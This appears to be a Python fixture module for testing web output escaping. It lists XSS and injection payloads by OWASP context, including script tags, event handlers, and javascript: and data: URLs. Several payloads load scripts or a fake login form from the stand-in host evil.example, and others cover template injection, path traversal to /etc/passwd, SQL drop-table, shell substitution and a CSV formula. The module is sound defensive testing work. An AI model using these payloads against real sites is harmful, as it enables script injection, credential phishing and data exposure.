"""Texts that would run as a script, change a page, or break it if a page did not escape them.

The kinds follow the contexts of the XSS Prevention Cheat Sheet of OWASP: content, attributes, URLs, scripts, styles,
templates, encodings and characters.
"""

from collections.abc import Sequence
from typing import Final

RUN: Final = "document.title='run'"
"""The script of the texts. A page on which it runs has another title."""

_TAGS: Final = (
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\t>{RUN}</script\n>".replace("\n", " ").replace("\t", " "),
    f"<script src=data:text/javascript,{RUN}></script>",
    "<script src=//evil.example/x.js></script>",
    f"<script>/*{RUN}*/{RUN}//</script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
    f"<template><script>{RUN}</script></template>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<iframe src=//evil.example/></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    "<form action=//evil.example/><input name=key type=password><button>Log in",
    "<plaintext>",
    "<xmp>",
    "</table></div></main></body></html>",
    "<table><tr><td>",
    "<dialog open>Your session has ended</dialog>",
)
_HANDLERS: Final = (
    f'<img src=x onerror="{RUN}">',
    f"<img src=x onerror={RUN}>",
    f"<IMG SRC=x ONERROR={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src='x'onerror='{RUN}'>".replace("'", "`"),
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text x=20 y=20>open</text></a>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<math href='javascript:{RUN}'>open</math>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<div style=animation-name:x onanimationstart={RUN}>",
    f"<p id=x tabindex=1 onfocus={RUN}>",
    f"<button popovertarget=x>open</button><p popover id=x onbeforetoggle={RUN}>",
)
_ATTRIBUTES: Final = (
    f'" onmouseover="{RUN}',
    f"' onmouseover='{RUN}",
    f'" autofocus onfocus="{RUN}',
    f"' autofocus onfocus='{RUN}",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"x onclick={RUN} y=",
    f'" style="background:url(//evil.example/)" x="{RUN}',
    '" formaction="//evil.example/" x="',
    '" data-part="timeline" data-live="//evil.example/',
    '" id="main" name="item',
    '\\" onmouseover=\\"x',
    "`onmouseover=x`",
)
_URLS: Final = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"javascript://%0a{RUN}",
    f"java&#x09;script:{RUN}",
    f"&#106;avascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5kb2N1bWVudC50aXRsZT0ncnVuJzwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/",
    "https://evil.example/ui/login",
    "https:evil.example",
    "\\\\evil.example\\",
    "../../../../etc/passwd",
    "..%2f..%2fv1%2fkeys",
    "/ui/logout",
    "?at=position:1&level=important#main",
)
_SCRIPTS_AND_STYLES: Final = (
    f"';{RUN};//",
    f'";{RUN};//',
    f"</script>{RUN}",
    f"${{{RUN}}}",
    "}{*{display:none}",
    "@import '//evil.example/x.css';",
    "expression(alert(1))",
    "__proto__",
    "constructor",
)
_TEMPLATES: Final = (
    "{{ 7 * 7 }}",
    "{% raw %}",
    "{% for each in range(999999999) %}",
    "{# comment",
    "{{ ''.__class__.__mro__ }}",
    "#{7*7}",
    "<%= 7 * 7 %>",
    "%s %d %n %(name)s {0} {name}",
    "$(id) `id` ; id | id && id",
    "'; drop table read.allocation; --",
    "=cmd|' /C calc'!A0",
    "data: event\\n\\nid: 1.1",
)
_ENCODINGS: Final = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;b&#x3e;bold",
    "&amp;lt;",
    "&nbsp;&copy;&notin;&unknown;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\\u003cscript\\u003e",
    "\\x3cscript\\x3e",
    "\u202etxt.exe",
    "\u2066left\u2069 \u200fright",
    "\u2028 and \u2029 end lines of scripts",
    "\ufeff\u200b\u200d invisible",
    "\uff1cscript\uff1e",
    "Z\u0351\u0352\u0353\u0354\u0355a\u0356\u0357lgo\u0358",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e0062\U000e007f",
    "\ufdfa" * 20,
    "W" * 200,
)
HOSTILE_TEXTS: Final = (
    *_TAGS, *_HANDLERS, *_ATTRIBUTES, *_URLS, *_SCRIPTS_AND_STYLES, *_TEMPLATES, *_ENCODINGS,
)  # fmt: skip


def not_shown(shown: str, texts: Sequence[str]) -> list[str]:
    """Return the texts that a page does not show, apart from white space."""
    words = " ".join(shown.split())
    return [each for each in texts if " ".join(each.split()) not in words]
